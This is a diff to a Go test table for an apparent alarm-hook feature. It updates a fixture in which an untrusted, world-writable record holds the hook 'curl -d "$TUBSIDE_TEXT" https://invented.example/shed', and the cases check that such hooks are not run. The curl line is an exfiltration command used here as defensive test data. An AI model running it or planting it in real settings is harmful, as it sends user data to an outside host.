@@ -141,10 +141,10 @@ func storybook() []tale {
 	row("alarms-away", "command", false, nil, "a", "s", "enter", "enter", "enter")
 	row("alarms", "not lifted", false, []set{withOpenDay(3, 28)}, "enter", "l")
 	foreign := func(p *person, d *base.Deps) {
-		d.Outside = &fakeOutside{state: keep.OutsideState{Unconfirmed: "curl -d \"$TUBSIDE_TEXT\" https://invented.example/shed"}}
+		d.Outside = &fakeOutside{state: keep.OutsideState{Unconfirmed: session.AlarmSettings{Hook: "curl -d \"$TUBSIDE_TEXT\" https://invented.example/shed", RaiseVolume: true, Speak: true}}}
 		d.Exposed = "Others can change this record: any user may change /srv/shed/tubside.db"
 	}
-	row("alarms-foreign", "c has alarms run", false, []set{foreign}, "a")
+	row("alarms-foreign", "c allows what", false, []set{foreign}, "a")
 	row("home-foreign", "not run", false, []set{foreign})
 	row("day-foreign", "not run", false, []set{withOpenDay(3, 50), foreign}, "enter")
 	row("alarms-out", "out of service", false, []set{withOpenDay(3, 28)}, "enter", "l", "x", "x")
